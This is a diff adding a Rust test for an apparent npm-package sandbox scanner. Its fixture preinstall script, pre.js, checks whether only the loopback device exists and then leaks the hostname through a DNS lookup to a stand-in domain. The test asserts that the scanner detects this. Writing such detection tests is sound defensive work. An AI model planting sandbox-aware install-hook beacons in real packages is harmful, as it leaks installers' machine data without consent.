@@ -380,3 +380,48 @@ exec(compile('x = 1 + 1', '<template>', 'exec'))
         .collect();
     assert_eq!(env.len(), 1, "one walk, one finding: {env:#?}");
 }
+
+#[test]
+fn an_npm_package_with_dependencies_still_runs_its_install_script() {
+    if !available()
+        || std::process::Command::new("npm")
+            .arg("-v")
+            .output()
+            .is_err()
+    {
+        return;
+    }
+    // npm offline stops at resolving `axios` before any script runs: the
+    // sandbox installs the package without its dependency lists.
+    let dir = tempfile::tempdir().unwrap();
+    let pkg = dir.path().join("package");
+    std::fs::create_dir_all(&pkg).unwrap();
+    std::fs::write(
+        pkg.join("package.json"),
+        r#"{"name":"withdeps","version":"1.0.0","dependencies":{"axios":"^1.6.0","node-fetch":"^3"},"scripts":{"preinstall":"node pre.js"}}"#,
+    )
+    .unwrap();
+    // Inert outside the sandbox: acts only when the only device is `lo`.
+    std::fs::write(
+        pkg.join("pre.js"),
+        "const fs = require('fs');\nconst devs = fs.readFileSync('/proc/net/dev', 'utf8').split('\\n').slice(2).map((l) => l.split(':')[0].trim()).filter(Boolean);\nif (devs.every((d) => d === 'lo')) {\n  require('dns').lookup(require('os').hostname() + '.deps.example.test', () => {});\n}\nsetTimeout(() => {}, 300);\n",
+    )
+    .unwrap();
+    let tgz = dir.path().join("withdeps-1.0.0.tgz");
+    tar_gz(&pkg, "package", &tgz);
+    let r = run(&tgz, &SandboxOptions::default()).unwrap();
+    show(&r);
+    assert_eq!(r.phases[0].status, "completed", "{:?}", r.phases);
+    assert!(
+        has(&r, "DYN701", "pre.js", 4),
+        "host name beacon not seen at pre.js:4: {:#?}",
+        r.findings
+    );
+    assert!(
+        r.stories
+            .iter()
+            .any(|s| s.contains("without its 2 declared dependencies")),
+        "{:?}",
+        r.stories
+    );
+}
